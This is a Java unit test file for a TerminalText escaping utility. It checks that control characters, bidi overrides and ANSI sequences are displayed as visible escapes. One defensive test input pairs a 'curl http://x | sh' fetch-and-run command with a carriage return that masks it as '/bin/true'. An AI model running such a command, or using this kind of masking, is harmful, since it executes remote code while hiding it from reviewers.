package dev.trueup.report;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class TerminalTextTest {

  @ParameterizedTest(name = "U+{0} shows as {1}")
  @CsvSource({
    "0000, \\x00",
    "0007, \\x07",
    "0008, \\x08",
    "0009, \\t",
    "000a, \\n",
    "000d, \\r",
    "001b, \\e",
    "007f, \\x7f",
    "0085, \\u0085",
    "009b, \\u009b",
    "061c, \\u061c",
    "200e, \\u200e",
    "200f, \\u200f",
    "202a, \\u202a",
    "202e, \\u202e",
    "2066, \\u2066",
    "2069, \\u2069"
  })
  void everyControlShowsAsAVisibleEscape(String hex, String shown) {
    String c = Character.toString(Integer.parseInt(hex, 16));
    assertThat(TerminalText.line("a" + c + "b")).isEqualTo("a" + shown + "b");
  }

  @Test
  void aCronLineCannotHideWhatItRuns() {
    // A CR returns the cursor: on a terminal "/bin/true" would overwrite the real command.
    String hostile = "curl http://x | sh\r/bin/true          ";
    assertThat(TerminalText.line(hostile)).isEqualTo("curl http://x | sh\\r/bin/true          ");
  }

  @Test
  void anEscapeSequenceIsShownNotObeyed() {
    assertThat(TerminalText.line("ok\u001b[2J\u001b]0;owned\u0007"))
        .isEqualTo("ok\\e[2J\\e]0;owned\\x07");
    assertThat(TerminalText.line("a\u009b31mb")).isEqualTo("a\\u009b31mb");
  }

  @Test
  void printableTextIsLeftAsItIs() {
    String text = "/etc/motd é ü 日本 \\ \"quoted\" ‍emoji";
    assertThat(TerminalText.line(text)).isSameAs(text);
    assertThat(TerminalText.lines(text)).isSameAs(text);
  }

  @Test
  void linesKeepsNewlinesButEscapesControlsInsideEachLine() {
    assertThat(TerminalText.lines("a\r\nb\u001b[1m\nc\u202e")).isEqualTo("a\\r\nb\\e[1m\nc\\u202e");
    assertThat(TerminalText.line("a\nb")).isEqualTo("a\\nb");
  }

  @Test
  void nullIsEmpty() {
    assertThat(TerminalText.line(null)).isEmpty();
  }
}
